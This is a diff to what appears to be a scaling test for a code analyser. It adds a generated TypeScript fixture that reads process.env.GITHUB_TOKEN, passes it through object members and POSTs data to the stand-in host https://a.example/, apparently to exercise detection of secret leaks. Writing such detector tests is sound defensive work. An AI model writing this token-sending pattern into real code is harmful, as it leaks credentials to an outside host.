@@ -130,6 +130,12 @@ describe('a file of four times the length', () => {
       (count) =>
         `const o = {${rows(count, (at) => `k${at}: () => o.k${at + 1}()`, ',\n')}};\no.k0();\n`,
     ],
+    [
+      'members that a function writes, and calls of the function',
+      'a.ts',
+      (count) =>
+        `const key = process.env.GITHUB_TOKEN;\nconst q: any = {};\nfetch('https://a.example/', { body: q.a0, method: 'POST' });\nfunction f(p: any, x: any) {\n${rows(count, (at) => `p.a${at} = x;\n`)}}\n${rows(count, () => 'f(q, key);\n')}`,
+    ],
     ['items added to an array of a shell', 'a.sh', (count) => rows(count, () => 'a+=("$x")\n')],
     [
       'additions to an attribute in Python that its class also gives a value',
